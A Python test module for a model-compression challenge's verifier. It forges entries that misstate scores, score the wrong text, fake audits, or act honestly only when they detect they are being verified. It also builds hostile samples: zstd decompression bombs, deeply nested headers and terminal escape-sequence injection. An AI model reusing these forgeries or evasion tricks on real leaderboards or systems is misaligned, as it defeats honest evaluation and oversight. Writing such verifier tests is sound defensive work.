"""Entries made to deceive whoever verifies them, or to harm his machine, and honest ones that look alike.

HOSTILE lists them: what each tries (its docstring), the line of defence that must stop it, and what the
finding must say. Each builder changes a copy of a true entry in place, as a forger would who knows this
project: sizes, hashes and submission.json are made to agree again, so that nothing but the named line stops
it. The scripts work with few imports; they state the figures that results.json states, without scoring.

Most of what a script does behind its figures is an *attempt*, whose outcome travels in its own figures:
`attempt(name, function)` notes "got ..." or the error. No attempt may get anything.
"""

import base64
import ctypes
import functools
import io
import json
import os
import re
import shutil
import socket
import struct
import threading
import zipfile
from collections.abc import Callable, Iterator, Sequence
from contextlib import contextmanager
from dataclasses import asdict, dataclass, replace
from pathlib import Path
from typing import Any, Literal

import numpy as np
import pytest
import torch
import zstandard
from entry_toys import change, draw_nothing, edit, make_run
from record_toys import make_record, rewrite_logs, write_json
from tiny_samples import tiny_text, tiny_tokenizer, write_tiny_artifact, write_tiny_dataset
from torch import Tensor

from golf.audit.rescore import ArtifactScorer, Replay
from golf.config import RunConfig
from golf.data.manifest import Manifest, open_dataset, sha256_of_file
from golf.data.shards import write_shard
from golf.data.vocabulary import SPACE_MARK, Vocabulary
from golf.entry.build import build
from golf.entry.bundle import entry_script
from golf.entry.results import read_entry_results
from golf.entry.selfextract import pack_script
from golf.entry.submission import entry_figures
from golf.evaluate import EvaluateConfig, evaluate, read_model, read_settings
from golf.model.config import ModelConfig
from golf.model.gpt import GPT
from golf.model.loss import token_nats
from golf.pack import container
from golf.pack.artifact import PackConfig, pack
from golf.pack.container import read_container, write_container
from golf.results import NATS_ARRAYS
from golf.run import artifact_header
from golf.score.scorer import ScoreResult, Scoring, score
from golf.score.windows import WindowConfig
from golf.system.clock import StageClock
from golf.system.log import RunLog
from golf.system.stored import config_from_dict
from golf.ttt.documents import split_documents
from golf.ttt.methods import score_adapting
from golf.ttt.sgd import TTTConfig

QUIET = RunLog(quiet=True)
SEED = 7
Line = Literal["check", "reader", "files", "data", "own scorer", "cage", "probes"]
"""check: reads the folder, runs nothing. reader: a bounded reader refuses a file. files: sizes and hashes.
data: hash, tokens and bytes of the verifier's own text. own scorer: this project's score of the artifact.
cage: the script's process can reach nothing and ends. probes: an audit of the scorer."""


@dataclass(frozen=True)
class Surroundings:
    """The verifier's machine: what a script could reach for, and what shows that it did."""

    root: Path
    """Everything below belongs to the verifier and must not change."""
    port: int
    """Of a server that notes each connection."""
    secret: str = "s3cr3t-0f-the-ver1fier"
    """In the environment, in the home folder and in an open file; no output may have it."""
    marker: str = f"hostile{os.getpid()}"
    """In the names of files and in the command lines of processes that attempts make."""

    @property
    def data(self) -> Path:
        """The text that the verifier gives."""
        return self.root / "data"

    @property
    def home(self) -> Path:
        """The verifier's home folder."""
        return self.root / "home"


@dataclass(frozen=True)
class Hostile:
    """One entry of the table."""

    build: Callable[[Path, Surroundings], None]
    line: Line
    words: str
    """A regular expression that what is said must match."""

    @property
    def tries(self) -> str:
        """What it tries."""
        return (self.build.__doc__ or "").strip()


HOSTILE: dict[str, Hostile] = {}
HONEST: dict[str, Callable[[Path, Surroundings], None]] = {}


def stopped_by(line: Line, words: str) -> Callable[..., Any]:
    """Puts a builder into HOSTILE under its own name."""

    def register(builder: Callable[[Path, Surroundings], None]) -> Callable[[Path, Surroundings], None]:
        HOSTILE[builder.__name__.replace("_", " ")] = Hostile(builder, line, words)
        return builder

    return register


def honest(builder: Callable[[Path, Surroundings], None]) -> Callable[[Path, Surroundings], None]:
    """Puts a builder into HONEST under its own name."""
    HONEST[builder.__name__.replace("_", " ")] = builder
    return builder


@contextmanager
def surroundings(root: Path) -> Iterator[tuple[Surroundings, list[str]]]:
    """A data folder, a home with a secret and another text, and a server; yields also what it heard."""
    write_tiny_dataset(root / "data", tiny_tokenizer())
    heard: list[str] = []
    with socket.create_server(("127.0.0.1", 0)) as server:
        place = Surroundings(root, server.getsockname()[1])
        (place.home / ".ssh").mkdir(parents=True)
        (place.home / ".ssh" / "id").write_text(place.secret)
        shutil.copytree(place.data, place.home / "more text")

        def listen() -> None:
            while True:
                try:
                    heard.append(str(server.accept()[1]))
                except OSError:
                    return

        thread = threading.Thread(target=listen, daemon=True)
        thread.start()
        secret = place.secret.encode()
        # add_key to the session's keyring, as ssh and Kerberos do.
        ctypes.CDLL(None).syscall(
            {"x86_64": 248}.get(os.uname().machine, 217),
            b"user",
            place.marker.encode(),
            secret,
            len(secret),
            -3,
        )
        yield place, heard
        server.shutdown(socket.SHUT_RDWR)
        thread.join()


# The entry that all others are made of.


def make_true_entry(folder: Path, data: Path, seeds: Sequence[int] = (SEED,)) -> Path:
    """An entry whose figures, plain and with test-time training, are those of its artifacts."""
    runs, vocabulary = [], Vocabulary.load(data / "tiny.model")
    for seed in seeds:
        run = make_run(folder / f"run{seed}", seed, b"", b"# later\n")
        artifact = run / "artifact.bin"
        write_tiny_artifact(artifact, vocabulary, seed)
        how = EvaluateConfig(per_document=run / "per_document.npz")
        scores = evaluate(artifact, data, how, QUIET, ttt=True)
        tally, sha256 = scores.stages[0].tally, sha256_of_file(artifact)
        edit(
            run,
            scores=asdict(scores),
            environment=scores.environment,
            packing__artifact_bytes=scores.artifact_bytes,
            packing__artifact_sha256=sha256,
            data__tokenizer_sha256=vocabulary.sha256,
            data__validation_sha256=scores.validation_sha256,
            data__validation_tokens=tally.num_tokens + 1,
            data__validation_bytes=tally.num_bytes,
        )
        runs.append(run)
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("golf.entry.plots.plot_training", draw_nothing)
        entry = build(runs, folder / "records", "local")
    replay(entry)
    return entry


def artifact_of(entry: Path) -> Path:
    """The entry's artifact."""
    return entry / f"artifact_seed{SEED}.bin"


def arrays_of(entry: Path) -> dict[str, np.ndarray]:
    """The arrays of its sums by document."""
    with np.load(entry / "per_document.npz") as stored:
        return dict(stored)


def agree(entry: Path, **changes: Any) -> None:
    """Changes results.json (`entry_toys.change`) and makes every size, hash and figure of the entry agree."""
    path = entry / "results.json"
    results = json.loads(path.read_text())
    for seed, run in results["seeds"].items():
        script, artifact = entry / "train_gpt.py", entry / f"artifact_seed{seed}.bin"
        sha256 = sha256_of_file(artifact)
        run["packing"] |= {
            "code_bytes": script.stat().st_size,
            "code_sha256": sha256_of_file(script),
            "artifact_bytes": artifact.stat().st_size,
            "artifact_sha256": sha256,
        }
        run["scores"] |= {"artifact_bytes": artifact.stat().st_size, "artifact_sha256": sha256}
        change(run, changes)
    path.write_text(json.dumps(results))
    summary = entry / "submission.json"
    stated = json.loads(summary.read_text()) | entry_figures(list(read_entry_results(path).values()))
    summary.write_text(json.dumps(stated))


PRELUDE = """
import base64, ctypes, fcntl, json, os, pathlib, signal, socket, subprocess, sys, time
from contextlib import suppress

STATED = json.loads({stated!r})
SECRET_PLACE, DATA, ENTRY, PORT = pathlib.Path({home!r}), pathlib.Path({data!r}), {entry!r}, {port}
MARKER = {marker!r}
TRIED = {{}}


def option(name):
    return pathlib.Path(sys.argv[sys.argv.index(name) + 1])


FIGURES, DOCUMENTS = STATED[option("--score").name]
DOCUMENTS = base64.b85decode(DOCUMENTS)


def attempt(name, function):
    try:
        TRIED[name] = f"got {{function()!r:.200}}"
    except BaseException as error:
        TRIED[name] = f"{{type(error).__name__}}: {{error}}"[:200]


def finish():
    FIGURES["environment"]["tried"] = TRIED
    option("--json").write_text(json.dumps(FIGURES))
    option("--per-document").write_bytes(DOCUMENTS)


"""


def replay(entry: Path, place: Surroundings | None = None, body: str = "", ending: str = "finish()") -> None:
    """Gives the entry a script that does `body` and states what results.json states now; all agrees then."""
    stated, arrays = {}, arrays_of(entry)
    for seed, run in json.loads((entry / "results.json").read_text())["seeds"].items():
        scores, file = run["scores"], io.BytesIO()
        own = [stage for stage in scores["stages"] if stage["name"] in NATS_ARRAYS]
        nats = {name: arrays.get(f"{name}_seed{seed}", arrays.get(name)) for name in NATS_ARRAYS.values()}
        np.savez(file, tokens=arrays["tokens"], bytes=arrays["bytes"], **nats)
        documents = base64.b85encode(file.getvalue()).decode()
        stated[f"artifact_seed{seed}.bin"] = {**scores, "stages": own}, documents
    text = PRELUDE.format(
        stated=json.dumps(stated),
        home=str(place.home if place else ""),
        data=str(place.data if place else ""),
        entry=str(entry),
        port=place.port if place else 0,
        marker=place.marker if place else "",
    )
    (entry / "train_gpt.py").write_text(f"{text}{body}\n{ending}\n")
    agree(entry)


def state_nats(entry: Path, nats: dict[str, float]) -> None:
    """Lets results.json and the sums by document state these nats of stages; the script comes after."""
    run = read_entry_results(entry / "results.json")[SEED]
    arrays = arrays_of(entry)
    for name, value in nats.items():
        stage, array = run.stage(name), NATS_ARRAYS[name]
        assert stage is not None
        arrays[array] = arrays[array] * (value / stage.tally.nats)
    np.savez(entry / "per_document.npz", **arrays)
    agree(entry, **{f"scores__stages__{name}__tally__nats": value for name, value in nats.items()})


def state_bpb(entry: Path, bpb: float) -> None:
    """The same with bits per byte, for both stages."""
    run = read_entry_results(entry / "results.json")[SEED]
    tallies = {stage.name: stage.tally for stage in (run.quantized, run.final)}
    state_nats(entry, {name: t.nats * bpb / t.bits_per_byte for name, t in tallies.items()})


# Figures that the artifact does not make.


@stopped_by("own scorer", r"quantised val_bpb.*test-time-trained val_bpb")
def states_less_than_it_makes(entry: Path, place: Surroundings) -> None:
    """States 0.9 everywhere, in JSON, by document and by its script, which scores nothing."""
    state_bpb(entry, 0.9)
    replay(entry, place)


@stopped_by("own scorer", r"test-time-trained val_bpb")
def states_less_by_little(entry: Path, place: Surroundings) -> None:
    """Moves the score that counts by 5e-6 bits per byte: a rank, and less than eyes see."""
    run = read_entry_results(entry / "results.json")[SEED]
    tally = run.final.tally
    state_nats(entry, {"test_time_trained": tally.nats * (1 - 5e-6 / tally.bits_per_byte)})
    replay(entry, place)


@stopped_by("own scorer", r"test-time-trained val_bpb")
def writes_a_lower_figure_than_it_prints(entry: Path, place: Surroundings) -> None:
    """The score in the log and on the terminal is true; the one in its JSON is not."""
    replay(
        entry, place, 'print("ttt_score val_bpb as stated")\nFIGURES["stages"][-1]["tally"]["nats"] *= 0.7'
    )


@stopped_by("own scorer", r"val_bpb")
def patches_the_json_module(entry: Path, place: Surroundings) -> None:
    """Scores honestly through a json.dumps that lowers what is written."""
    body = """
sound = json.dumps
def dumps(value, **more):
    for stage in value.get("stages", []):
        stage["tally"]["nats"] *= 0.7
    return sound(value, **more)
json.dumps = dumps
"""
    replay(entry, place, body)


@stopped_by("own scorer", r"val_bpb")
def behaves_where_it_is_verified(entry: Path, place: Surroundings) -> None:
    """States 0.9, and truth wherever it sees -I, no network, an empty home or --json."""
    true = (entry / "train_gpt.py").read_text()
    state_bpb(entry, 0.9)
    replay(entry, place)
    lie = (entry / "train_gpt.py").read_text()
    watched = "sys.flags.isolated or '--json' in sys.argv or not os.environ.get('USER')"
    both = f"import os, sys\nexec({true!r} if {watched} else {lie!r})\n"
    (entry / "train_gpt.py").write_text(both)
    agree(entry)


@stopped_by("own scorer", r"bytes_scored|all bytes scored")
def counts_the_leading_space_twice(entry: Path, place: Surroundings) -> None:
    """The space is in the piece's bytes and added again (#1719): more bytes, a lower score."""
    miscount(entry, place, lambda piece: piece.startswith(SPACE_MARK))


@stopped_by("own scorer", r"bytes_scored|all bytes scored")
def counts_a_byte_piece_as_three(entry: Path, place: Surroundings) -> None:
    """A byte piece that decodes alone to U+FFFD counts its three bytes (#1143)."""
    miscount(entry, place, lambda piece: 2 * piece.startswith("<0x"))


def miscount(entry: Path, place: Surroundings, more: Callable[[str], int]) -> None:
    """Adds `more` bytes for each token to all that the entry states of bytes."""
    dataset, clock = open_dataset(place.data), StageClock()
    with clock.stage("score"):
        tokens = dataset.validation_tokens(clock)
    added_N = np.array([int(more(dataset.vocabulary.piece(int(token)))) for token in tokens[1:]])
    assert added_N.sum() > 0
    documents_N = np.cumsum(tokens[1:] == dataset.vocabulary.bos_id)
    arrays = arrays_of(entry)
    arrays["bytes"] = arrays["bytes"] + np.bincount(documents_N, weights=added_N).astype(np.int64)
    np.savez(entry / "per_document.npz", **arrays)
    total = int(arrays["bytes"].sum())
    stages = ("last", "averaged", "quantized", "test_time_trained")
    present = read_entry_results(entry / "results.json")[SEED]
    counted = {f"scores__stages__{name}__tally__num_bytes": total for name in stages if present.stage(name)}
    agree(entry, data__validation_bytes=total, **counted)
    replay(entry, place)


Dishonest = Callable[[Scoring, Callable[[Scoring], ScoreResult]], float]
"""Nats of a scoring, made with the score by test-time training, in a way that is not allowed."""


def score_in_another_way(entry: Path, place: Surroundings, way: Dishonest) -> None:
    """Lets the entry state what a scorer makes that breaks a rule; its script is of such a fork."""
    _, model, header = read_model(artifact_of(entry), torch.device("cpu"))
    windows, ttt = read_settings(header, EvaluateConfig())
    dataset, clock = open_dataset(place.data), StageClock()
    with clock.stage("score"):
        tokens = dataset.validation_tokens(clock)
    scoring = Scoring(model, tokens, dataset.vocabulary, windows)
    stated = way(scoring, lambda scoring: score_adapting(scoring, replace(ttt, learning_rate=0.5)))
    state_nats(entry, {"test_time_trained": stated})
    replay(entry, place)


@stopped_by("own scorer", r"test-time-trained val_bpb")
def takes_the_better_of_two_epochs(entry: Path, place: Surroundings) -> None:
    """Scores with test-time training, scores again with the weights it ended with, and states the lower."""
    score_in_another_way(
        entry, place, lambda scoring, train: min(train(scoring).tally.nats for _ in range(2))
    )


@stopped_by("own scorer", r"test-time-trained val_bpb")
def trains_on_a_chunk_before_its_grade(entry: Path, place: Surroundings) -> None:
    """Learns from the whole text first, then grades it."""

    def peek(scoring: Scoring, train: Callable[[Scoring], ScoreResult]) -> float:
        train(scoring)
        return score(scoring).tally.nats

    score_in_another_way(entry, place, peek)


@stopped_by("own scorer", r"test-time-trained val_bpb")
def orders_documents_by_difficulty(entry: Path, place: Surroundings) -> None:
    """Grades the documents it finds easy first and learns from them, an order that no decoder knows."""

    def easiest_first(scoring: Scoring, train: Callable[[Scoring], ScoreResult]) -> float:
        nats_N, tokens = score(scoring).nats_N, scoring.tokens
        spans = split_documents(tokens, len(tokens) - 1, scoring.vocabulary.bos_id)
        spans = sorted(spans, key=lambda span: nats_N[span.start : span.end].mean())
        stream = np.concatenate([tokens[span.start : span.end] for span in spans] + [tokens[-1:]])
        return train(replace(scoring, tokens=stream)).tally.nats

    score_in_another_way(entry, place, easiest_first)


@stopped_by("own scorer", r"test-time-trained val_bpb")
def lets_the_rows_of_a_batch_read_each_other(entry: Path, place: Surroundings) -> None:
    """Each window sees the next one of its batch, which holds the tokens it has to predict."""

    def mixed(scoring: Scoring, train: Callable[[Scoring], ScoreResult]) -> float:
        sound = GPT.forward
        GPT.forward = reads_the_next_row(sound)
        try:
            return train(scoring).tally.nats
        finally:
            GPT.forward = sound

    score_in_another_way(entry, place, mixed)


def reads_the_next_row(sound: Callable[..., Tensor]) -> Callable[..., Tensor]:
    """A forward pass whose logits depend on the next row of the batch."""

    def forward(self: GPT, inputs_BT: Tensor, *more: Any) -> Tensor:
        hint_B11 = 0.02 * (inputs_BT.roll(-1, 0)[:, -1:, None] % 7)
        return sound(self, inputs_BT, *more) * (1 + hint_B11)

    return forward


@stopped_by("own scorer", r"val_bpb|no stage")
def claims_a_stage_that_was_not_scored(entry: Path, place: Surroundings) -> None:
    """Test-time training does not help its artifact; the stage is made up, its script does not score it."""
    run = read_entry_results(entry / "results.json")[SEED]
    state_nats(entry, {"test_time_trained": run.quantized.tally.nats * 0.8})
    replay(entry, place, 'FIGURES["stages"] = FIGURES["stages"][:1]')


@stopped_by("own scorer", r"tokens_scored|tokens of each|all tokens scored")
def claims_a_part_as_the_whole(entry: Path, place: Surroundings) -> None:
    """Scores the first half of the text, and says that it is all of it."""
    arrays = {name: array[: len(array) // 2] for name, array in arrays_of(entry).items()}
    np.savez(entry / "per_document.npz", **arrays)
    sums = {"num_tokens": int(arrays["tokens"].sum()), "num_bytes": int(arrays["bytes"].sum())}
    for name, array in NATS_ARRAYS.items():
        agree(entry, **{f"scores__stages__{name}__tally": {"nats": float(arrays[array].sum()), **sums}})
    replay(entry, place)


# Other text than the one it is scored on.


def restate_on(
    entry: Path,
    place: Surroundings,
    data: Path,
    keep_sha256: bool = False,
    max_tokens: int | None = None,
) -> None:
    """Lets the entry state its artifact's true score on another text, under that text's hash or the old."""
    before = read_entry_results(entry / "results.json")[SEED]
    how = EvaluateConfig(per_document=entry / "per_document.npz", max_tokens=max_tokens)
    scores = evaluate(artifact_of(entry), data, how, QUIET, ttt=True)
    sha256 = before.data.validation_sha256 if keep_sha256 else scores.validation_sha256
    tally = scores.stages[0].tally
    agree(entry, scores={**asdict(scores), "validation_sha256": sha256}, data__validation_sha256=sha256)
    if max_tokens is None:
        counts = {"tokens": tally.num_tokens + 1, "bytes": tally.num_bytes}
        agree(entry, **{f"data__validation_{name}": count for name, count in counts.items()})
    replay(entry, place)


def other_text(place: Surroundings, kind: str) -> Path:
    """A data folder with other validation documents, under the same names as the verifier's."""
    folder = place.home / f"other {kind}"
    if not folder.exists():
        folder.mkdir()
        texts = {
            "part": [tiny_text(seed) for seed in range(8)],
            "sorted": sorted((tiny_text(seed) for seed in range(12)), key=len),
            "training": [tiny_text(seed + 100) for seed in range(12)],
        }[kind]
        write_texts(folder, place.data, texts)
    return folder


def write_texts(folder: Path, like: Path, texts: list[str]) -> None:
    """A data folder of these validation documents, with the tokenizer of another."""
    shutil.copyfile(like / "tiny.model", folder / "tiny.model")
    vocabulary = Vocabulary.load(folder / "tiny.model")
    tokens = [token for text in texts for token in (vocabulary.bos_id, *vocabulary.encode_text(text))]
    manifest = Manifest.load(like)
    file = next(file for file in manifest.files if file.split == "val")
    write_shard(folder / file.name, np.array(tokens, dtype=np.uint16))
    file = replace(
        file,
        sha256=sha256_of_file(folder / file.name),
        num_tokens=len(tokens),
        num_documents=len(texts),
        last_document=len(texts) - 1,
    )
    num_bytes = sum(len(text.encode()) for text in texts)
    replace(manifest, files=(file,), val_text_bytes=num_bytes, train_text_bytes=0).save(folder)


@stopped_by("data", r"validation_sha256")
def is_scored_on_a_part_under_the_same_name(entry: Path, place: Surroundings) -> None:
    """Rebuilt its validation shard from fewer documents; the file's name is the challenge's."""
    restate_on(entry, place, other_text(place, "part"))


@stopped_by("own scorer", r"val_bpb")
def states_the_hash_of_the_text_it_did_not_score(entry: Path, place: Surroundings) -> None:
    """Scored fewer documents, and copies the hash of the whole text."""
    restate_on(entry, place, other_text(place, "part"), keep_sha256=True)


@stopped_by("data", r"validation_sha256")
def is_scored_on_sorted_documents(entry: Path, place: Surroundings) -> None:
    """The same documents sorted by length, so that windows and adapting meet the short ones first."""
    restate_on(entry, place, other_text(place, "sorted"))


@stopped_by("data", r"validation_sha256")
def is_scored_on_its_training_text(entry: Path, place: Surroundings) -> None:
    """Its validation text is what it was trained on."""
    restate_on(entry, place, other_text(place, "training"))


@stopped_by("data", r"tokenizer_sha256")
def has_a_tokenizer_of_its_own(entry: Path, place: Surroundings) -> None:
    """Its tokenizer has pieces that overlap, so that the text it counts is longer than the text."""
    agree(entry, data__tokenizer_sha256="0" * 64)


@stopped_by("own scorer", r"tokenizer of sha256")
def has_an_artifact_for_another_tokenizer(entry: Path, place: Surroundings) -> None:
    """The artifact belongs to another vocabulary, whose tokens are scored as if they were this text's."""
    reheader(entry, tokenizer_sha256="0" * 64)
    replay(entry, place)


# Sizes, seeds and hashes.


@stopped_by("files", r"bytes\.code")
def counts_less_code_than_it_has(entry: Path, place: Surroundings) -> None:
    """States 1,000 bytes of code."""
    agree(entry, packing__code_bytes=1000)


@stopped_by("files", r"within 16,000,000 bytes")
def has_a_script_over_the_limit(entry: Path, place: Surroundings) -> None:
    """Keeps its weights in the script, of 17 MB, and a small artifact beside it."""
    replay(entry, place, f"WEIGHTS = {'0' * 17_000_000!r}")


@stopped_by("files", r"artifact_sha256")
def counts_one_artifact_and_scores_another(entry: Path, place: Surroundings) -> None:
    """The small one's size and hash are stated, the large one's score."""
    small = entry / "artifact.bin"
    small.write_bytes(artifact_of(entry).read_bytes()[:500])
    size, sha256 = small.stat().st_size, sha256_of_file(small)
    agree(entry, packing__artifact_bytes=size, packing__artifact_sha256=sha256)


@stopped_by("own scorer", r"val_bpb|artifact")
def scores_a_larger_artifact_beside_the_stated_one(entry: Path, place: Surroundings) -> None:
    """The stated artifact is a small one that makes another score; the script would decode large.bin."""
    shutil.copyfile(artifact_of(entry), entry / "large.bin")
    write_tiny_artifact(artifact_of(entry), Vocabulary.load(place.data / "tiny.model"), score={"stride": 32})
    replay(entry, place, "(pathlib.Path('large.bin')).read_bytes()")


@stopped_by("files", r"artifact is that of seed")
def shows_one_artifact_as_three_seeds(entry: Path, place: Surroundings) -> None:
    """Copies a seed's artifact, figures and log, and states a deviation of nothing."""
    copy_seed(entry, 8)
    copy_seed(entry, 9)
    replay(entry, place)


def copy_seed(entry: Path, seed: int) -> None:
    """Adds another seed that is the first one's copy."""
    shutil.copyfile(artifact_of(entry), entry / f"artifact_seed{seed}.bin")
    shutil.copyfile(entry / f"train_seed{SEED}.log", entry / f"train_seed{seed}.log")
    results = json.loads((entry / "results.json").read_text())
    results["seeds"][str(seed)] = results["seeds"][str(SEED)] | {"seed": seed}
    (entry / "results.json").write_text(json.dumps(results))
    arrays = arrays_of(entry)
    for name in ("nats", "ttt_nats"):
        first = arrays[name] if name in arrays else arrays[f"{name}_seed{SEED}"]
        arrays |= {f"{name}_seed{SEED}": first, f"{name}_seed{seed}": first}
        arrays.pop(name, None)
    np.savez(entry / "per_document.npz", **arrays)
    agree(entry)


@stopped_by("files", r"submission val_bpb")
def has_another_score_in_its_submission(entry: Path, place: Surroundings) -> None:
    """results.json is true, submission.json, which the leaderboard reads, is lower."""
    restate_json(entry, "submission.json", val_bpb=0.9)


def restate_json(entry: Path, file: str, **values: Any) -> None:
    """Changes keys at the top of one of its JSON files."""
    path = entry / file
    path.write_text(json.dumps(json.loads(path.read_text()) | values))


@stopped_by("files", r"audit of")
def shows_the_audit_of_another_artifact(entry: Path, place: Surroundings) -> None:
    """The audit passed, of another artifact."""
    (entry / "audit.json").write_text(json.dumps({"passed": True, "artifact_sha256": "0" * 64}))


@stopped_by("files", r"code_sha256")
def exchanged_its_script(entry: Path, place: Surroundings) -> None:
    """The script was exchanged for one of the same size."""
    path = entry / "train_gpt.py"
    path.write_text(path.read_text().replace("import base64, ctypes", "import ctypes, base64"))


@stopped_by("own scorer", r"(nats|bpb) of|documents: (ttt_)?bpb|first \d+ documents")
def has_sums_by_document_of_another_run(entry: Path, place: Surroundings) -> None:
    """per_document.npz, which comparisons with other entries read, is of a better run."""
    arrays = arrays_of(entry)
    np.savez(entry / "per_document.npz", **{**arrays, "ttt_nats": arrays["ttt_nats"] * 0.9})


@stopped_by("own scorer", r"test-time-trained.*(adapt|val_bpb)")
def says_that_time_ended_its_adapting(entry: Path, place: Surroundings) -> None:
    """States a score that nobody can make again, since a clock is said to have ended it."""
    run = read_entry_results(entry / "results.json")[SEED]
    state_nats(entry, {"test_time_trained": run.quantized.tally.nats * 0.8})
    agree(entry, scores__stages__test_time_trained__notes={"adaptation_stopped_after_tokens": 96})
    replay(entry, place)


@stopped_by("files", r"seed")
def states_a_seed_under_the_number_of_another(entry: Path, place: Surroundings) -> None:
    """Its results of seed 8 say that they are of seed 7, which submission.json then shows once."""
    copy_seed(entry, 8)
    path = entry / "results.json"
    results = json.loads(path.read_text())
    results["seeds"]["8"]["seed"] = SEED
    path.write_text(json.dumps(results))
    write_tiny_artifact(entry / "artifact_seed8.bin", Vocabulary.load(place.data / "tiny.model"), 8)
    replay(entry, place)


@stopped_by("files", r"submission hardware")
def steers_the_terminal_with_a_figure(entry: Path, place: Surroundings) -> None:
    """The table of figures that differ would clear the screen, or be drawn as its markup says."""
    restate_json(entry, "submission.json", hardware="\x1b[2J\x1b[H[bold green]agrees[/]\u202e\n56 of 56")


@stopped_by("files", r"bytes_total")
def states_a_number_of_4000_digits(entry: Path, place: Surroundings) -> None:
    """A number that is longer than any line."""
    path = entry / "submission.json"
    path.write_text(re.sub(r'"bytes_total": \d+', f'"bytes_total": {"9" * 4000}', path.read_text(), count=1))


# Artifacts that are not what they say.


def reheader(entry: Path, **fields: Any) -> None:
    """Gives the artifact another header, in a container that is sound."""
    header, payload = read_container(artifact_of(entry).read_bytes())
    artifact_of(entry).write_bytes(write_container({**header, **fields}, bytes(payload)))


def seal(frame: bytes, body_bytes: int, version: int = container.ARTIFACT_VERSION) -> bytes:
    """A container of any frame, with the checksum that belongs to it."""
    magic, codec = container.ARTIFACT_MAGIC, container.ARTIFACT_CODEC
    preamble = struct.pack("<4sB4sQ", magic, version, codec, body_bytes)
    return preamble + container.container_checksum(preamble, frame) + frame


def bomb(entry: Path, num_bytes: int, stated_bytes: int) -> None:
    """An artifact whose frame holds so many zeros."""
    packer = zstandard.ZstdCompressor(level=1).compressobj(size=num_bytes)
    frame = b"".join(packer.compress(bytes(1 << 20)) for _ in range(num_bytes >> 20)) + packer.flush()
    artifact_of(entry).write_bytes(seal(frame, stated_bytes))


@stopped_by("own scorer", r"payload|weights|left|shape|bytes")
def decodes_to_fewer_weights_than_it_says(entry: Path, place: Surroundings) -> None:
    """Its header names a wider network than its payload fills."""
    header, _ = read_container(artifact_of(entry).read_bytes())
    reheader(entry, model={**header["model"], "width": 32, "mlp_hidden": 64})
    replay(entry, place)


@stopped_by("own scorer", r"does not end where|left over")
def decodes_to_more_weights_than_it_says(entry: Path, place: Surroundings) -> None:
    """Its payload holds a second network behind the one that its header names."""
    header, payload = read_container(artifact_of(entry).read_bytes())
    artifact_of(entry).write_bytes(write_container(header, bytes(payload) + bytes(payload)))
    replay(entry, place)


@stopped_by("own scorer", r"claims [\d,]+ weights|describes no network")
def claims_a_giant_network(entry: Path, place: Surroundings) -> None:
    """Its header asks for 10^12 weights of memory."""
    header, _ = read_container(artifact_of(entry).read_bytes())
    reheader(
        entry, model={**header["model"], "width": 1 << 20, "num_heads": 1 << 14, "num_kv_heads": 1 << 13}
    )
    replay(entry, place)


@stopped_by("own scorer", r"frame claims|allowed")
def is_a_bomb_of_zstd(entry: Path, place: Surroundings) -> None:
    """A frame of 30 KB holds a gigabyte."""
    bomb(entry, 1 << 30, 1 << 30)
    replay(entry, place)


@stopped_by("own scorer", r"frame claims|allowed")
def understates_what_its_frame_holds(entry: Path, place: Surroundings) -> None:
    """The container says 100 bytes, the frame holds 64 MB."""
    bomb(entry, 1 << 26, 100)
    replay(entry, place)


@stopped_by("own scorer", r"checksum")
def has_bytes_behind_its_end(entry: Path, place: Surroundings) -> None:
    """Hides a second payload behind the artifact's end."""
    artifact_of(entry).write_bytes(artifact_of(entry).read_bytes() + b"more")
    replay(entry, place)


@stopped_by("own scorer", r"cannot be read")
def has_a_second_frame_behind_its_first(entry: Path, place: Surroundings) -> None:
    """The same with a checksum that is right."""
    data = artifact_of(entry).read_bytes()
    start = struct.calcsize("<4sB4sQ")
    body_bytes = struct.unpack("<4sB4sQ", data[:start])[3]
    frame = data[start + 8 :]
    artifact_of(entry).write_bytes(seal(frame + zstandard.compress(b"second"), body_bytes))
    replay(entry, place)


@stopped_by("own scorer", r"checksum")
def is_damaged(entry: Path, place: Surroundings) -> None:
    """One bit is another; the stated figures are those of before."""
    data = bytearray(artifact_of(entry).read_bytes())
    data[-3] ^= 1
    artifact_of(entry).write_bytes(data)
    replay(entry, place)


@stopped_by("own scorer", r"weights|not finite|val_bpb")
def has_weights_that_are_not_finite(entry: Path, place: Surroundings) -> None:
    """Overwrites the payload's end with ones, which fp16 reads as NaN."""
    header, payload = read_container(artifact_of(entry).read_bytes())
    artifact_of(entry).write_bytes(write_container(header, bytes(payload)[:-64] + b"\xff" * 64))
    replay(entry, place)


@stopped_by("own scorer", r"cannot be read|not readable|recursion|levels|JSON")
def has_a_header_without_end(entry: Path, place: Surroundings) -> None:
    """A header of 100,000 nested lists."""
    text = b"[" * 100_000
    body = struct.pack("<I", len(text)) + text
    artifact_of(entry).write_bytes(seal(zstandard.compress(body), len(body)))
    replay(entry, place)


@stopped_by("own scorer", r"expected at most|ttt\.epochs")
def asks_for_endless_training(entry: Path, place: Surroundings) -> None:
    """Its settings ask for 10^9 epochs on each chunk: verifying it would never end."""
    reheader(entry, ttt={"epochs": 10**9, "chunk_tokens": 96})
    replay(entry, place)


@stopped_by("probes", r"the weights hold some of the validation text")
def spells_the_validation_text(entry: Path, place: Surroundings) -> None:
    """Its weights were trained on the validation text alone: they are a compressed copy of it.

    Its figures are true, its bytes fit, and its audit.json says that all probes passed, which nobody ran.
    What it knows shows on other text of the same kind.
    """
    dataset, clock = open_dataset(place.data), StageClock()
    with clock.stage("score"):
        tokens = dataset.validation_tokens(clock)
    _, model, header = read_model(artifact_of(entry), torch.device("cpu"))
    context = model.config.context
    inputs_BT = torch.from_numpy(tokens.astype(np.int64)).unfold(0, context + 1, context // 2)
    optimizer = torch.optim.Adam(model.requires_grad_(True).parameters(), lr=0.02)
    for _ in range(120):
        optimizer.zero_grad()
        token_nats(model(inputs_BT[:, :-1]), inputs_BT[:, 1:]).mean().backward()
        optimizer.step()
    packed = pack(model.state_dict(), header, PackConfig(), 1_000_000)
    artifact_of(entry).write_bytes(packed.artifact)
    restate_on(entry, place, place.data)
    sha256 = sha256_of_file(artifact_of(entry))
    (entry / "audit.json").write_text(json.dumps({"passed": True, "artifact_sha256": sha256}))


@stopped_by("own scorer", r"took longer than")
def asks_for_as_much_training_as_it_may(entry: Path, place: Surroundings) -> None:
    """Its settings are the dearest that are not refused: 100 epochs after each token."""
    reheader(entry, ttt={"epochs": 100, "chunk_tokens": 1, "batch_sequences": 1})
    replay(entry, place)


# Files that are not files, or hold more than they should.


def link(path: Path, target: Path | str) -> None:
    """Puts a link in the place of a file."""
